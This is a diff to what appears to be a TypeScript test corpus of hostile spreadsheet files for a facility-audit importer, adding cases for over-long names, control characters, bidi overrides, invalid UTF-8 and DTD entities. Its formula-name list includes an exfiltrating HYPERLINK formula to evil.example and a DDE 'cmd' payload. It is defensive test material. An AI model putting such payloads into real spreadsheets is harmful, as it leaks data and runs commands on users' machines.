@@ -403,6 +403,9 @@ export type HostileExpectation =
   /** A valid audit. */
   | { kind: 'valid' };
 
+/** Rejected with `code` at each of `cells`. */
+const errorsAt = (code: ErrorCode, cells: string[]): HostileExpectation => ({ kind: 'cell_errors', errors: cells.map((cell) => ({ code, cell })) });
+
 export interface HostileCase {
   id: string;
   /** What the file is, for the report. */
@@ -433,7 +436,6 @@ export function namedFacilities(names: readonly string[], staffIds: readonly str
 export const RTL_EMOJI_NAMES = [
   'دار رعاية المسنين 梧桐',
   'בית אבות 崇福',
-  '\u202e院养颐道街\u202c 乌镇',
   '👵👴 幸福家园 🏡',
   '👨‍👩‍👧‍👦 家庭照护站 🇨🇳',
   '𠀀𪚥 濮院敬老院',
@@ -441,10 +443,15 @@ export const RTL_EMOJI_NAMES = [
 
 export const FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', '+86 573 8888 0000 养老院', '-1+1 护理院', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1', '\t=1+1 颐养院'];
 
-/** `_xHHHH_` is how Excel writes a character XML cannot hold (ECMA-376 ST_Xstring). */
-export const CONTROL_NAMES_XML = ['梧桐_x0007_颐养院', '崇福_x001B_[31m敬老院_x001B_[0m', '乌镇_x0000_护理院', '濮院\u0085颐养院\u009b', '屠甸_x000D__x000A_养老院'];
+/**
+ * `_xHHHH_` is how Excel writes a character XML cannot hold (ECMA-376 ST_Xstring): BEL, ESC
+ * (a terminal's colour sequence), NUL, then a raw C1 CSI; the last two are line breaks (CR LF as
+ * Excel escapes them, NEL raw), which read as a space, and `_x005F_` is a literal underscore.
+ */
+export const CONTROL_NAMES_XML = ['梧桐_x0007_颐养院', '崇福_x001B_[31m敬老院_x001B_[0m', '乌镇_x0000_护理院', '濮院颐养院\u009b', '屠甸_x000D__x000A_养老院', '石门\u0085敬老院_x005F_x0007_'];
 
-export const LONG_CELL = 32_767;
+/** Names a person wraps over lines in a cell (Alt+Enter): each break reads as a space. */
+export const WRAPPED_NAMES = ['梧桐街道\n颐养院', '崇福镇\r\n敬老院', 'Wutong \n Care Home', '乌镇\u2028护理院'];
 
 const SAMPLE = 'tongxiang.xlsx';
 
@@ -487,6 +494,18 @@ function* sharedStrings(count: number): Generator<string> {
 }
 
 const MINIMAL_SHEET = sheetXml([FACILITY_HEADER, ['TX-001', '梧桐街道颐养院', '桐乡市', '养老机构', '公办', 3, 130, 60]]);
+
+/** A worksheet part whose text holds `bytes` that are not UTF-8, where a name should be. */
+function sheetWithBytes(bytes: number[]): Buffer {
+  const [head, tail] = MINIMAL_SHEET.split('梧桐街道颐养院') as [string, string];
+  return Buffer.concat([Buffer.from(`${head}梧桐`), Buffer.from(bytes), Buffer.from(`颐养院${tail}`)]);
+}
+
+/** The Tongxiang sample with a DTD (an entity, as billion-laughs attacks declare) in `part`. */
+const withDtd = (part: string) =>
+  editSample(SAMPLE, (name, text) => (name === part ? text.replace(/^(<\?xml[^>]*\?>)?/, (declaration) => `${declaration}<!DOCTYPE x [<!ENTITY lol "lol">]>`) : text));
+
+export const LONG_CELL = 32_767;
 
 /** Every case of the corpus, in the order of issue 9. */
 export const HOSTILE_CASES: HostileCase[] = [
@@ -735,7 +754,15 @@ export const HOSTILE_CASES: HostileCase[] = [
       ];
       return xlsx([{ name: '机构', xml: sheetXml(rows) }]);
     },
-    expected: { kind: 'valid' },
+    // Issue 16: text fields are bounded (ids 64 characters, names 200).
+    expected: errorsAt('range', ['机构!B2', '机构!A3', '机构!B3']),
+  },
+  {
+    id: 'unbroken-name',
+    title: 'a facility name of 32,767 letters without a space (issue 16: it took the server down)',
+    fileName: 'unbroken.xlsx',
+    build: () => namedFacilities(['W'.repeat(LONG_CELL), '梧桐街道颐养院']),
+    expected: errorsAt('range', ['机构!B2']),
   },
   {
     id: 'formulas-without-values',
@@ -766,7 +793,71 @@ export const HOSTILE_CASES: HostileCase[] = [
       const rows: Cell[][] = [FACILITY_HEADER, ...CONTROL_NAMES_XML.map((name, i): Cell[] => [`TX-00${i + 1}`, { xml: xmlText(name) }, '桐乡市', '养老机构', '公办', 3, 100, 50])];
       return xlsx([{ name: '机构', xml: sheetXml(rows) }]);
     },
+    // Issue 16: an error at each cell with a control character; line breaks read as spaces.
+    expected: errorsAt('type', ['机构!B2', '机构!B3', '机构!B4', '机构!B5']),
+  },
+  {
+    id: 'line-breaks',
+    title: 'names wrapped over lines in their cells (LF, CR LF, U+2028)',
+    fileName: 'wrapped.xlsx',
+    build: () => namedFacilities(WRAPPED_NAMES),
     expected: { kind: 'valid' },
+  },
+  {
+    id: 'bidi-override',
+    title: 'a name with a right-to-left override (U+202E), which reorders what follows it',
+    fileName: 'bidi.xlsx',
+    build: () => namedFacilities(['梧桐街道颐养院', '\u202e院养颐道街\u202c 乌镇']),
+    expected: errorsAt('type', ['机构!B3']),
+  },
+  {
+    id: 'invalid-utf8',
+    title: 'a byte that is not UTF-8 (0xFF) inside a name in a sheet',
+    fileName: 'latin1.xlsx',
+    build: () => xlsx([{ name: '机构', xml: { name: '', data: sheetWithBytes([0xff]) } }]),
+    expected: { kind: 'file_error', code: 'not_xlsx', zh: /sheet1\.xml.*UTF-8/, en: /sheet1\.xml.*not UTF-8/ },
+  },
+  {
+    id: 'invalid-utf8-overlong',
+    title: 'an overlong UTF-8 sequence (0xC0 0xBC for "<") in a sheet',
+    fileName: 'overlong.xlsx',
+    build: () => xlsx([{ name: '机构', xml: { name: '', data: sheetWithBytes([0xc0, 0xbc]) } }]),
+    expected: { kind: 'file_error', code: 'not_xlsx', zh: /UTF-8/, en: /not UTF-8/ },
+  },
+  {
+    id: 'invalid-utf8-shared-strings',
+    title: 'sharedStrings holding the first two of the three bytes of a Chinese character',
+    fileName: 'cut-utf8.xlsx',
+    build: () =>
+      xlsx([{ name: '机构', xml: MINIMAL_SHEET }], {
+        sharedStrings: { name: '', data: Buffer.concat([Buffer.from(`${SST_HEAD}<si><t>梧`), Buffer.from('桐').subarray(0, 2), Buffer.from('</t></si></sst>')]) },
+      }),
+    expected: { kind: 'file_error', code: 'not_xlsx', zh: /sharedStrings\.xml.*UTF-8/, en: /sharedStrings\.xml.*not UTF-8/ },
+  },
+  {
+    id: 'dtd-content-types',
+    title: 'a DTD in [Content_Types].xml, a part the reader never parses',
+    fileName: 'dtd-types.xlsx',
+    build: () => withDtd('[Content_Types].xml'),
+    expected: { kind: 'file_error', code: 'not_xlsx', zh: /Content_Types.*DTD/, en: /Content_Types.*DTD/ },
+  },
+  {
+    id: 'dtd-doc-props',
+    title: 'a DTD in docProps/core.xml (document properties)',
+    fileName: 'dtd-props.xlsx',
+    build: () => withDtd('docProps/core.xml'),
+    expected: { kind: 'file_error', code: 'not_xlsx', zh: /core\.xml.*DTD/, en: /core\.xml.*DTD/ },
+  },
+  {
+    id: 'dtd-unknown-sheet',
+    title: 'a DTD in a sheet the audit ignores (not part of the template)',
+    fileName: 'dtd-sheet.xlsx',
+    build: () =>
+      xlsx([
+        { name: '机构', xml: MINIMAL_SHEET },
+        { name: '备忘', xml: sheetXml([['备忘'], ['&lol;']]).replace('<worksheet', '<!DOCTYPE worksheet [<!ENTITY lol "lol">]><worksheet').replace('&amp;lol;', '&lol;') },
+      ]),
+    expected: { kind: 'file_error', code: 'not_xlsx', zh: /sheet2\.xml.*DTD/, en: /sheet2\.xml.*DTD/ },
   },
   {
     id: 'control-characters-raw',
